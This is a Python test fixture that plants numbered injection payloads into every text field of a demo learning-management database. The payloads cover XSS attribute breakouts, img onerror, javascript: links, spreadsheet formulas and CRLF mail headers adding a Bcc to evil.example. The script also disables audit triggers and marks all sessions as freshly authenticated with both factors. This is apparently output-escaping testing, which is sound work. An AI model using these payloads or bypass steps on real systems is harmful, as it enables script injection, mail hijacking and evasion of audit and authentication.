"""Puts payloads, with a word of its own, into every text of a copy of the demo."""

import re
from collections.abc import Iterator, Mapping
from datetime import timedelta
from uuid import UUID, uuid4

import sqlalchemy as sa
from audit.trail import take_triggers_away
from sinks.fields import SENTENCES, WORDS, columns
from sqlalchemy.orm import Session

from assessments.models import Evidence, EvidenceState
from certificates.models import Certificate, CertificateState
from lms.complaints.models import Complaint
from lms.core import clock
from lms.core.drafts.models import Draft
from lms.core.sealing import Sealed
from lms.emergency.models import Emergency
from lms.employment.models import Leaving, PlacementHold, Start
from lms.jobs.models import Job, JobState
from lms.people.models import Factor, FactorKind, UserSession
from lms.privacy.models import Erasure
from lms.recruitment.models import Application, ApplicationState

MARK = re.compile(r"zq(\d{3})zq")
# Where a value begins, it decides what a link, a table or the head of a mail makes of it.
BEGINNINGS = ("javascript:lmsRan({n})//{mark}", "={mark}", "{mark}\r\nBcc: {mark}@evil.example\r\n")
# Out of an attribute; an element; a link in Markdown; and a picture from elsewhere, on an address that nobody has.
PAYLOADS = (
    '" onfocus=lmsRan({n}) autofocus x="',
    "'\"><img src=x onerror=lmsRan({n})>",
    "[x](javascript:lmsRan({n}))",
    "![x](http://192.0.2.1/lms.png)",
)
# Sentences that the demo has none of, in the shape their owners would write them.
LINKED = {
    "title": "A morning walk",
    "kind": "A reflection",
    "text": "We walked by the river.",
    "on": "2026-11-02",
    "path": "javascript:lmsRan(0)",
}


def planted(number: int, turn: int, before: str) -> str:
    """The payloads, in front of what was written; the beginnings take turns."""
    words = " ".join((BEGINNINGS[turn % 3], *PAYLOADS))
    return f"{words.format(n=number, mark=f'zq{number:03d}zq')} {before}"


def into(value: object, number: int, turn: int) -> object:
    """JSON with each text of more than one word planted in."""
    if isinstance(value, str):
        return planted(number, turn, value) if " " in value.strip() else value
    if isinstance(value, Mapping):
        return {key: into(inner, number, turn) for key, inner in value.items()}
    if isinstance(value, list):
        return [into(inner, number, turn) for inner in value]
    return value


def plant(session: Session, people: Mapping[str, UUID]) -> tuple[dict[str, str], set[str]]:
    """Plant in every row. Gives the fields by the numbers of their words, and the fields that have no row to plant in."""
    take_triggers_away(session.connection())
    _add_what_is_missing(session, people)
    session.flush()
    fields, empty = {}, set()
    for number, (name, column) in enumerate(sorted(columns().items())):
        if name in WORDS | SENTENCES:
            fields[f"{number:03d}"] = name
            if not _plant_column(session, column, number):
                empty.add(name)
    session.expire_all()
    _do_again(session)
    return fields, empty


def _plant_column(session: Session, column: sa.Column, number: int) -> int:
    """How many rows carry the word now: those where something was written, or all where nobody has written anything."""
    if "sealed" in column.info:
        return _plant_sealed(session, column.info["sealed"], number)
    table = column.table
    rows = session.execute(sa.select(table.c.id, column)).all()
    changes = {}
    for turn, (row, before) in enumerate([one for one in rows if one[1]] or rows):
        text = isinstance(column.type, sa.String)
        after = planted(number, turn, before or "") if text else into(before, number, turn)
        if after != before:
            changes[row] = after
    for row, after in changes.items():
        session.execute(sa.update(table).where(table.c.id == row).values({column.name: after}))
    return len(changes)


def _plant_sealed(session: Session, field: Sealed, number: int) -> int:
    """The same for a field that only its rows can write."""
    rows = session.scalars(sa.select(field.model)).all()
    said = {row: field.__get__(row, field.model) for row in rows}
    if any(said.values()):
        said = {row: before for row, before in said.items() if before}
    for turn, (row, before) in enumerate(said.items()):
        written = planted(number, turn, before) if isinstance(before, str) else into(before, number, turn)
        field.__set__(row, written)
    session.flush()
    return len(said)


def _add_what_is_missing(session: Session, people: Mapping[str, UUID]) -> None:
    """One row of each kind that the demo has none of."""
    evidence = sa.select(Evidence).where(Evidence.state == EvidenceState.SUBMITTED)
    for one in session.scalars(evidence):
        one.linked = LINKED
    revoked = session.scalars(sa.select(Certificate)).first()
    assert revoked is not None
    revoked.state, revoked.revoked_at, revoked.revoked_by = CertificateState.REVOKED, clock.now(), people["lead"]
    session.add(Job(kind="people.mail", key="stopped", payload={}, state=JobState.DEAD, attempts=8))
    session.add(
        Factor(
            person_id=people["trainee"], kind=FactorKind.PASSKEY, name="Phone", material="", confirmed_at=clock.now()
        )
    )
    now = clock.now()
    session.execute(sa.update(Emergency).values(reviewed_at=now, reviewer_id=people["admin"], was_right=True))
    session.add(Erasure(person_id=people["a4"], by_id=people["admin"], reason="A letter", due_at=now, done_at=now))
    _let_somebody_leave(session, people)
    session.add_all(_holds(session, people))
    stay_proved(session)
    session.add_all(_drafts(session, people["applicant"]))


def _let_somebody_leave(session: Session, people: Mapping[str, UUID]) -> None:
    """One who is in post has left today, and HR wrote down why."""
    start = session.scalars(sa.select(Start).filter_by(person_id=people["peer1"])).one()
    start.left_on = clock.today()
    row = Leaving(start_id=start.id, recorder_id=people["hr"])
    row.reason = "Moved away."
    session.add(row)


def _holds(session: Session, people: Mapping[str, UUID]) -> Iterator[PlacementHold]:
    """The placement of the trainee waits for a complaint of which she was told."""
    for told in session.scalars(sa.select(Complaint).where(Complaint.told_at.is_not(None))):
        told.person_id = people["trainee"]
        here = {"person_id": told.person_id, "node_id": told.node_id, "by_id": told.owner_id, "cause_id": told.id}
        held = PlacementHold(review_on=clock.today(), seen={}, **here)
        held.reason = "Until we have talked."
        yield held


def stay_proved(session: Session) -> None:
    """However long the asking takes, everybody who is signed in has just proved who they are, with both factors."""
    proved = {"second_at": clock.now(), "fresh_at": clock.now() + timedelta(days=1)}
    session.execute(sa.update(UserSession).values(proved))


def _drafts(session: Session, person: UUID) -> Iterator[Draft]:
    """Words not sent, in the steps of an application that is begun."""
    begun = sa.select(Application).where(Application.person_id == person, Application.state == ApplicationState.DRAFT)
    for one in session.scalars(begun):
        for step in ("why", "lived-experience", "adjustments"):
            words = {"text": ["Not sent yet."], "adjustments": ["Not sent yet."]}
            yield Draft(id=uuid4(), person_id=person, place=f"/applications/{one.id}/{step}", seq=1, words=words)


def _do_again(session: Session) -> None:
    """Every mail is sent and every certificate printed once more, from what is planted."""
    session.execute(sa.update(Certificate).values(file_id=None))
    again = sa.update(Job).where(Job.kind.in_(["people.mail", "certificates.render"]), Job.key != "stopped")
    session.execute(again.values(state=JobState.WAITING, attempts=0, due_at=clock.now(), done_at=None))
